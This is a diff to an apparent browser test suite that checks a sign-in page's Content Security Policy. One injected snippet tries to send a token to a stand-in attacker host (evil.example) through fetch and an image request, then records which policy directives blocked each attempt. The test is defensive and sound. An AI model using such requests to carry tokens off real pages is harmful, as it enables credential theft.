@@ -16,15 +16,18 @@ const INJECT = `new Promise((done) => {
   setTimeout(() => done(window.ran ?? 'nothing'), 500);
 })`;
 
-const CARRY_OFF = `Promise.all([
-  fetch('https://evil.example/').then(() => 'fetched', () => 'refused'),
-  new Promise((resolve) => {
-    document.addEventListener('securitypolicyviolation', (event) => {
-      if (event.blockedURI.includes('pixel')) resolve(event.effectiveDirective);
-    });
-    new Image().src = 'https://evil.example/pixel.png';
-  }),
-])`;
+/** Tries to send something to another origin; says what the browser's policy stopped. A network's failure is not that. */
+const CARRY_OFF = `new Promise((done) => {
+  const stopped = [];
+  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+    stopped.push(effectiveDirective + ' ' + blockedURI));
+  const fetched = fetch('https://evil.example/token').catch(() => {});
+  const shown = new Promise((ended) => {
+    Object.assign(new Image(), { onload: ended, onerror: ended, src: 'https://evil.example/pixel.png' });
+  });
+  // The events of both are in the queue by then.
+  Promise.all([fetched, shown]).then(() => setTimeout(() => done(stopped.sort()), 500));
+})`;
 
 test('an inline script, an inline handler, a foreign script and eval are refused', async () => {
   const page = await open('/sign-in', { tolerate: REFUSED });
@@ -39,7 +42,10 @@ test('an inline script, an inline handler, a foreign script and eval are refused
 
 test('a token cannot be carried off: no request leaves for another origin, no page can frame this one', async () => {
   const page = await open('/sign-in', { tolerate: REFUSED });
-  expect(await page.evaluate(CARRY_OFF)).toEqual(['refused', 'img-src']);
+  expect(await page.evaluate(CARRY_OFF)).toEqual([
+    'connect-src https://evil.example/token',
+    'img-src https://evil.example/pixel.png',
+  ]);
   const answer = await page.goto('/sign-in');
   expect(answer!.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
 });
